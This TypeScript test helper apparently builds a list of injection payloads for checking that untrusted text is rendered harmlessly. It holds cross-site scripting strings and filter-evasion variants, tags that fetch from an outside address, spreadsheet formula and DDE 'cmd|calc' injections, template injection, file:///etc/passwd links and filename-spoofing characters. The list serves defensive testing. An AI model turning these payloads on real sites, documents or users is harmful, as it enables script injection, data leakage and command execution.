/**
 * Texts that would run, ask for something or lead somewhere where they are not taken as text (trust row 15).
 * @param far an address that counts who asks for it, with a slash at its end.
 */
export function payloads(far: string): string[] {
  const hit = 'window.__hits++'
  const scripts = [
    `<script>${hit}</script>`,
    `<SCRIPT SRC="${far}a.js"></SCRIPT>`,
    `<script type="module">import "${far}m.js"</script>`,
    `<scr<script>ipt>${hit}</scr</script>ipt>`,
    `</script><script>${hit}</script>`,
    `</title><script>${hit}</script>`,
    `</textarea><script>${hit}</script>`,
    `</style><script>${hit}</script>`,
    `--><script>${hit}</script>`,
    `]]><script>${hit}</script>`,
    `\u2028<script>${hit}</script>`,
    `\ufeff<script>${hit}</script>`,
    `&lt;script&gt;${hit}&lt;/script&gt;`,
    `&#60;script&#62;${hit}&#60;/script&#62;`,
    `\\u003cscript\\u003e${hit}\\u003c/script\\u003e`,
    `%3Cscript%3E${hit}%3C/script%3E`,
  ]
  const handlers = [
    `<img src=x onerror="${hit}">`,
    `"><img src=x onerror="${hit}">`,
    `'><img src=x onerror='${hit}'>`,
    `" onmouseover="${hit}" x="`,
    `' autofocus onfocus='${hit}' x='`,
    `<svg onload="${hit}">`,
    `<svg><script>${hit}</script></svg>`,
    `<svg><animate onbegin="${hit}" attributeName=x></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${hit}">`,
    `<body onload="${hit}">`,
    `<details open ontoggle="${hit}">x</details>`,
    `<input autofocus onfocus="${hit}">`,
    `<video><source onerror="${hit}"></video>`,
    `<audio src=x onerror="${hit}">`,
    `<marquee onstart="${hit}">x</marquee>`,
    `<div style="animation:x" onanimationstart="${hit}">x</div>`,
    `<x contenteditable onblur="${hit}">x</x>`,
    `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  ]
  const requests = [
    `<img src="${far}i.png">`,
    `<img srcset="${far}s.png 1x">`,
    `<iframe src="${far}f.html"></iframe>`,
    `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
    `<object data="${far}o.swf"></object>`,
    `<embed src="${far}e.swf">`,
    `<link rel="stylesheet" href="${far}l.css">`,
    `<link rel="prefetch" href="${far}p">`,
    `<style>@import url(${far}c.css)</style>`,
    `<p style="background:url(${far}b.png)">x</p>`,
    `<base href="${far}">`,
    `<meta http-equiv="refresh" content="0;url=${far}">`,
    `<form action="${far}"><button>x</button></form>`,
    `<video poster="${far}v.png"></video>`,
    `<svg><image href="${far}g.png"/><use href="${far}u.svg#x"/></svg>`,
    `<table background="${far}t.png"><td>x</table>`,
    `![picture](${far}md.png)`,
    `![picture][far]\n\n[far]: ${far}ref.png`,
  ]
  const links = [
    `<a href="javascript:${hit}">x</a>`,
    `<a href="&#106;avascript:${hit}">x</a>`,
    `<a href="java\tscript:${hit}">x</a>`,
    `<a href="data:text/html,<script>${hit}</script>">x</a>`,
    `[x](javascript:${hit})`,
    `[x](<vbscript:${hit}>)`,
    '[x](file:///etc/passwd)',
    '[x](\\\\127.0.0.1\\share)',
    '<a href="//127.0.0.1/x">x</a>',
    `<javascript:${hit}>`,
  ]
  const formulas = [
    `=HYPERLINK("${far}h","x")`,
    `=WEBSERVICE("${far}w")`,
    `=IMAGE("${far}x.png")`,
    '+1+cmd|calc!A0',
    '@SUM(1+1)*cmd|calc!A0',
    '-2+3+cmd|calc!A0',
    '\t=1+1',
    '＝1+1',
  ]
  const templates = ['{{constructor.constructor("' + hit + '")()}}', '${' + hit + '}', `#image("${far}typst.png")`, '#eval("1")']
  const lines = [
    'BEGIN:VALARM\r\nACTION:PROCEDURE',
    'x\r\nATTACH:file:///etc/passwd',
    '\u202egnp.exe\u202c',
    '\u0000\u001b[2J\u0007',
  ]
  return [...scripts, ...handlers, ...requests, ...links, ...formulas, ...templates, ...lines]
}
